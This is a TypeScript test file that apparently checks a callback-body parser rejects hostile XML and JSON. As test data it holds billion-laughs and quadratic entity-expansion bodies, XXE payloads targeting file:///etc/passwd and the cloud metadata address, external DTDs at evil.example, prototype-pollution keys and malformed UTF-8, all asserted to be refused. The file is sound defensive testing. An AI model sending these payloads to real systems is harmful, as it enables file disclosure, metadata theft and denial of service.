// The hostile-input table of the README, at the core level: each attack hostile.test.ts,
// xml.test.ts, json.test.ts and body.test.ts do not already try. (Content-Length, slow drip
// and the 415 for a wrong content type are receiver matters: see read-request-body.test.ts,
// receiver-refusals.test.ts and test/worker-receiver.test.ts.)
// Skipped when FUZZ_RUNS asks for a long fuzz run: these are `npm test` checks, not fuzzing.

import { type CallbackBody, type ParseOptions, type SafeParseResult, safeParseCallback } from '@wanxiang/core';
import { describe, expect, it, vi } from 'vitest';
import { fuzzSettings } from './support/fuzz/settings.js';

const settings = fuzzSettings();

const MB = 1_000_000;
const TASK = (message = '', attributes = '') =>
  `<Response${attributes}><EventName>TaskFinish</EventName><JobsDetail><Code>Success</Code><Message>${message}</Message>` +
  '<JobId>j1</JobId><State>Success</State><Tag>NoiseReduction</Tag></JobsDetail></Response>';
const encoder = new TextEncoder();

/**
 * Parses with a hang guard far above normal (the slowest case here, 200,000 distinct sibling
 * names, takes about 1 s): a quadratic reader would take minutes at these sizes.
 */
function timed(body: CallbackBody, options?: ParseOptions, boundMs = 15_000): SafeParseResult {
  const started = performance.now();
  const result = safeParseCallback(body, options);
  const ms = performance.now() - started;
  expect(ms, `took ${ms.toFixed(0)} ms`).toBeLessThan(boundMs);
  return result;
}

function codeOf(body: CallbackBody, options?: ParseOptions): string {
  const result = timed(body, options);
  if (result.success) throw new Error(`expected a rejection, got ${JSON.stringify(result.event).slice(0, 200)}`);
  return result.error.code;
}

function eventOf(body: CallbackBody, options?: ParseOptions): Record<string, unknown> {
  const result = timed(body, options);
  if (!result.success) throw new Error(`expected an event, got ${result.error.code}: ${result.error.message}`);
  return result.event as unknown as Record<string, unknown>;
}

const messageOf = (event: Record<string, unknown>) => (event.JobsDetail as { Message?: string }[])[0]!.Message;

describe.skipIf(settings.long)('hostile input (README table): entity expansion, external entities, DOCTYPE', () => {
  const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
  const billionLaughs = `<?xml version="1.0"?><!DOCTYPE Response [<!ENTITY lol0 "lol">${lols}]>${TASK('&lol9;')}`;

  it.each([
    ['billion laughs: 10 levels of 10 references (10^9 "lol"s)', billionLaughs],
    ['a quadratic blow-up: one 100 kB entity referenced 10,000 times', `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(100_000)}">]>${TASK('&a;'.repeat(10_000))}`],
    ['an external entity (SYSTEM file:)', `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${TASK('&x;')}`],
    ['an external entity (SYSTEM http:)', `<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>${TASK('&x;')}`],
    ['an external parameter entity', `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>${TASK()}`],
    ['an external DTD (SYSTEM)', `<!DOCTYPE Response SYSTEM "http://evil.example/x.dtd">${TASK()}`],
    ['an external DTD (PUBLIC)', `<!DOCTYPE Response PUBLIC "-//EVIL//DTD//EN" "http://evil.example/x.dtd">${TASK()}`],
    ['a lower-case <!doctype> without a subset', `<!doctype Response>${TASK()}`],
    ['a DOCTYPE inside the root element', TASK('<!DOCTYPE x>')],
  ])('%s → MALFORMED_XML, nothing expanded or fetched', (_, body) => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    try {
      const result = timed(body, undefined, 100);
      expect(result.success).toBe(false);
      expect(result.error?.code).toBe('MALFORMED_XML');
      expect(result.error?.message).toMatch(/DOCTYPE declarations are not allowed/);
      expect(fetchSpy).not.toHaveBeenCalled();
    } finally {
      fetchSpy.mockRestore();
    }
  });

  it('an entity reference that no DOCTYPE could have declared → MALFORMED_XML', () => {
    expect(codeOf(TASK('&lol9;'))).toBe('MALFORMED_XML');
    expect(codeOf(TASK('&nbsp;'))).toBe('MALFORMED_XML');
  });
});

describe.skipIf(settings.long)('hostile input (README table): deep and wide nesting', () => {
  it.each([
    ['1,000,000 nested elements (3 MB)', () => '<a>'.repeat(MB)],
    ['100,000 nested JSON objects', () => `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
    ['1,000,000 nested JSON arrays (2 MB)', () => '['.repeat(MB) + ']'.repeat(MB)],
    ['65 levels ending in a self-closing element', () => `${'<a>'.repeat(64)}<b/>${'</a>'.repeat(64)}`],
    ['65 levels of empty JSON objects', () => `${'{"a":'.repeat(64)}{}${'}'.repeat(64)}`],
  ])('%s → TOO_DEEP, no stack overflow', (_, makeBody) => {
    expect(codeOf(makeBody())).toBe('TOO_DEEP');
  });

  it('64 levels, the default maxDepth, are read', () => {
    const deepest = `<Response><EventName>Deep</EventName>${'<a>'.repeat(62)}x${'</a>'.repeat(62)}</Response>`;
    expect(eventOf(deepest).EventName).toBe('Deep');
  });

  // Within 4 MiB these are valid bodies: they are read, in linear time (a quadratic reader
  // would need minutes at 200,000), and every sibling is kept.
  it('200,000 sibling elements with one name → one list of 200,000', () => {
    const event = eventOf(`<Response><EventName>Wide</EventName>${'<a>x</a>'.repeat(200_000)}</Response>`);
    expect(event.a).toHaveLength(200_000);
  });

  // Each new name costs the engine a hidden class or dictionary entry: past maxNames (1,024 by
  // default, 83 in the widest documented callback) the body is refused where the name appears.
  it('200,000 sibling elements with distinct names → TOO_MANY_NAMES at the 1,025th, or 200,000 fields with a higher maxNames', () => {
    const siblings = Array.from({ length: 200_000 }, (_, i) => `<a${i}>x</a${i}>`).join('');
    const body = `<Response><EventName>Wide</EventName>${siblings}</Response>`;
    const error = timed(body);
    expect(error.success ? undefined : error.error.code).toBe('TOO_MANY_NAMES');
    // Response and EventName are two of the 1,024: the refusal names where a1022 starts.
    expect(error.error?.message).toContain(`column ${body.indexOf('<a1022>') + 1}`);
    expect(Object.keys(eventOf(body, { maxNames: 200_002 }))).toHaveLength(200_001);
  });

  it('200,000 empty sibling elements → left out', () => {
    expect(eventOf(`<Response><EventName>Wide</EventName>${'<a/>'.repeat(200_000)}</Response>`)).toEqual({ EventName: 'Wide' });
  });

  it('20,000 jobs in one TaskFinish → 20,000 typed jobs', () => {
    const job = '<JobsDetail><Code>Success</Code><JobId>j</JobId><State>Success</State><Tag>NoiseReduction</Tag></JobsDetail>';
    expect(eventOf(`<Response><EventName>TaskFinish</EventName>${job.repeat(20_000)}</Response>`).JobsDetail).toHaveLength(20_000);
  });

  it('a JSON array of 200,000 items and an object of 200,000 keys', () => {
    expect(eventOf(`{"EventName":"Wide","a":[${Array(200_000).fill('"x"').join(',')}]}`).a).toHaveLength(200_000);
    const keys = Array.from({ length: 200_000 }, (_, i) => `"k${i}":${i}`).join(',');
    const wide = `{"EventName":"Wide",${keys}}`;
    const refused = timed(wide);
    expect(refused.success ? undefined : refused.error.code).toBe('TOO_MANY_NAMES');
    expect(refused.error?.message).toContain(`column ${wide.indexOf('"k1023"') + 1}`);
    expect(Object.keys(eventOf(wide, { maxNames: 200_001 }))).toHaveLength(200_001);
    // 1,024 names used again and again are fine: 200,000 objects of distinct-within-themselves keys.
    const objects = Array.from({ length: 200 }, () => `{${Array.from({ length: 1000 }, (_, i) => `"k${i}":1`).join(',')}}`).join(',');
    expect(eventOf(`{"EventName":"Wide","a":[${objects}]}`).a).toHaveLength(200);
  });
});

describe.skipIf(settings.long)('hostile input (README table): huge text nodes and attributes', () => {
  const text = 'x'.repeat(3.9 * MB);

  it.each([
    ['3.9 MB of text', text, text],
    ['3.9 MB in a CDATA section', `<![CDATA[${text}]]>`, text],
    ['700,000 entity references (3.5 MB)', '&amp;'.repeat(700_000), '&'.repeat(700_000)],
    ['400,000 text pieces split by comments', 'x<!---->'.repeat(400_000), 'x'.repeat(400_000)],
  ])('%s within maxBytes → delivered intact', (_, message, expected) => {
    const event = eventOf(TASK(message));
    expect(messageOf(event)).toBe(expected);
  });

  it('a text node that takes the body over 4 MiB → BODY_TOO_LARGE, counted in UTF-8 bytes before decoding', () => {
    // 1.4 million 数: 1.4 million UTF-16 code units (under the limit), 4.2 MB of UTF-8 (over it).
    const wide = TASK('数'.repeat(1_400_000));
    expect(wide.length).toBeLessThan(4 * 1024 * 1024);
    expect(codeOf(wide)).toBe('BODY_TOO_LARGE');
    expect(codeOf(encoder.encode(wide))).toBe('BODY_TOO_LARGE');
    expect(codeOf(`{"EventName":"Big","a":"${'x'.repeat(4.2 * MB)}"}`)).toBe('BODY_TOO_LARGE');
  });

  it('a body of exactly maxBytes is read, one byte more is not (also with 4-byte characters)', () => {
    const body = '<Response><EventName>😀</EventName></Response>'; // 😀 is 4 UTF-8 bytes, 2 UTF-16 units
    const size = encoder.encode(body).length;
    expect(eventOf(body, { maxBytes: size }).EventName).toBe('😀');
    expect(codeOf(body, { maxBytes: size - 1 })).toBe('BODY_TOO_LARGE');
    expect(codeOf(encoder.encode(body), { maxBytes: size - 1 })).toBe('BODY_TOO_LARGE');
  });

  it('a 3 MB attribute value → attributes are dropped, the event is delivered', () => {
    const event = eventOf(TASK('', ` padding="${'y'.repeat(3 * MB)}"`));
    expect(event.EventName).toBe('TaskFinish');
    expect(JSON.stringify(event)).not.toContain('yyyy');
  });

  it('100,000 attributes on one element → dropped, the event is delivered', () => {
    const attributes = Array.from({ length: 100_000 }, (_, i) => ` a${i}="${i}"`).join('');
    expect(eventOf(TASK('', attributes)).EventName).toBe('TaskFinish');
  });

  it.each([
    ['an unterminated 3 MB attribute value', `<Response a="${'y'.repeat(3 * MB)}`],
    ['"<" in an attribute value', TASK('', ' a="<script>"')],
    ['an unquoted attribute value', TASK('', ' a=1')],
    ['an attribute without a value', TASK('', ' disabled')],
    ['a 3 MB element name, never closed', `<${'a'.repeat(3 * MB)}>`],
  ])('%s → MALFORMED_XML', (_, body) => {
    expect(codeOf(body)).toBe('MALFORMED_XML');
  });
});

describe.skipIf(settings.long)('hostile input (README table): prototype keys', () => {
  const JSON_TASK = (job: string) => `{"EventName":"TaskFinish","JobsDetail":[{"JobId":"j1","State":"Success","Tag":"NoiseReduction"${job}}]}`;

  it.each([
    ['the root element <__proto__>', '<__proto__><EventName>TaskFinish</EventName></__proto__>', ''],
    ['<prototype> in a job', TASK().replace('<JobId>', '<prototype><x>1</x></prototype><JobId>'), 'JobsDetail.prototype'],
    ['<constructor> in the second of two jobs', TASK().replace('</Response>', '<JobsDetail><constructor>1</constructor></JobsDetail></Response>'), 'JobsDetail.constructor'],
    ['the JSON key "constructor"', JSON_TASK(',"constructor":{"prototype":{"polluted":1}}'), 'JobsDetail.0.constructor'],
    ['the JSON key "prototype"', JSON_TASK(',"Operation":{"prototype":1}'), 'JobsDetail.0.Operation.prototype'],
    ['"__proto__" written with a \\u escape', JSON_TASK(',"\\u005f_proto__":{"polluted":1}'), 'JobsDetail.0.__proto__'],
    ['"__proto__" inside a nested array', JSON_TASK(',"Operation":{"List":[1,{"__proto__":{"polluted":1}}]}'), 'JobsDetail.0.Operation.List.1.__proto__'],
  ])('%s → INVALID_CALLBACK at its path, Object.prototype untouched', (_, body, path) => {
    const result = timed(body);
    expect(result.error?.code).toBe('INVALID_CALLBACK');
    if (path) expect(result.error?.issues[0]?.path).toBe(path);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted');
  });

  it('an attribute named __proto__ is dropped with the other attributes', () => {
    expect(eventOf(TASK('', ' __proto__="x" constructor="y"')).EventName).toBe('TaskFinish');
  });

  it('names of Object.prototype methods are ordinary own fields, not the inherited methods', () => {
    const event = eventOf('<Response><EventName>X</EventName><toString>a</toString><valueOf>b</valueOf><hasOwnProperty>c</hasOwnProperty></Response>');
    expect(event).toEqual({ EventName: 'X', toString: 'a', valueOf: 'b', hasOwnProperty: 'c' });
    expect(Object.prototype.toString).toBeTypeOf('function');
    const fromJson = eventOf('{"EventName":"X","isPrototypeOf":"a","__defineGetter__":"b"}');
    expect(fromJson).toEqual({ EventName: 'X', isPrototypeOf: 'a', __defineGetter__: 'b' });
  });
});

describe.skipIf(settings.long)('hostile input (README table): invalid UTF-8', () => {
  const sequences: [string, number[]][] = [
    ['an overlong "/" (C0 AF)', [0xc0, 0xaf]],
    ['an overlong NUL (C0 80)', [0xc0, 0x80]],
    ['a 3-byte overlong (E0 80 AF)', [0xe0, 0x80, 0xaf]],
    ['a 4-byte overlong (F0 80 80 AF)', [0xf0, 0x80, 0x80, 0xaf]],
    ['a lone continuation byte (80)', [0x80]],
    ['a lone continuation byte (BF)', [0xbf]],
    ['a high surrogate in UTF-8 (ED A0 80)', [0xed, 0xa0, 0x80]],
    ['a low surrogate in UTF-8 (ED BF BF)', [0xed, 0xbf, 0xbf]],
    ['a surrogate pair in CESU-8 (ED A0 BD ED B8 80)', [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]],
    ['a code point above U+10FFFF (F4 90 80 80)', [0xf4, 0x90, 0x80, 0x80]],
    ['a lead byte F5', [0xf5, 0x80, 0x80, 0x80]],
    ['the bytes FE and FF', [0xfe, 0xff]],
    ['a sequence cut short (E6 95)', [0xe6, 0x95]],
  ];
  const bytes = (...parts: (string | number[])[]) => new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...encoder.encode(part)] : part)));

  it.each(sequences)('%s in XML text, an XML tag name, a JSON string and a JSON key → MALFORMED_*, never U+FFFD', (_, seq) => {
    const cases: [Uint8Array, string][] = [
      [bytes('<Response><EventName>Task', seq, 'Finish</EventName></Response>'), 'MALFORMED_XML'],
      [bytes('<Response><Event', seq, 'Name>X</Event', seq, 'Name></Response>'), 'MALFORMED_XML'],
      [bytes('{"EventName":"Task', seq, 'Finish"}'), 'MALFORMED_JSON'],
      [bytes('{"EventName":"X","k', seq, '":1}'), 'MALFORMED_JSON'],
    ];
    for (const [body, code] of cases) {
      for (const contentType of [undefined, code === 'MALFORMED_XML' ? 'application/xml' : 'application/json']) {
        const result = timed(body, { contentType });
        expect(result.error?.code).toBe(code);
        expect(result.error?.message).toBe('The body is not valid UTF-8');
      }
    }
  });

  it('a UTF-16 body (with its BOM) → UNSUPPORTED_FORMAT sniffed, MALFORMED_XML declared as XML', () => {
    const text = TASK();
    const utf16 = new Uint8Array(2 + text.length * 2);
    utf16.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) utf16[2 + 2 * i] = text.charCodeAt(i);
    expect(codeOf(utf16)).toBe('UNSUPPORTED_FORMAT');
    expect(codeOf(utf16, { contentType: 'application/xml' })).toBe('MALFORMED_XML');
  });
});

describe.skipIf(settings.long)('hostile input (README table): wrong content type', () => {
  it.each([
    ['image/png'],
    ['text/html'],
    ['application/javascript'],
    ['text/csv'],
    ['multipart/form-data; boundary=x'],
    ['application/json, application/xml'],
    ['application/xml; charset=utf-16'],
    ['application/xml; charset=iso-8859-1'],
    ['application/json; charset=gbk'],
    ['x'.repeat(100_000), '100 kB of "x"'],
  ])('Content-Type %s → UNSUPPORTED_FORMAT (the receiver answers 415 before reading the body)', (contentType, label = contentType) => {
    expect(codeOf(TASK(), { contentType }), label).toBe('UNSUPPORTED_FORMAT');
  });

  it('a form-encoded body under a generic type → UNSUPPORTED_FORMAT (sniffed as neither format)', () => {
    expect(codeOf('EventName=TaskFinish&JobsDetail=1', { contentType: 'application/x-www-form-urlencoded' })).toBe('UNSUPPORTED_FORMAT');
  });
});
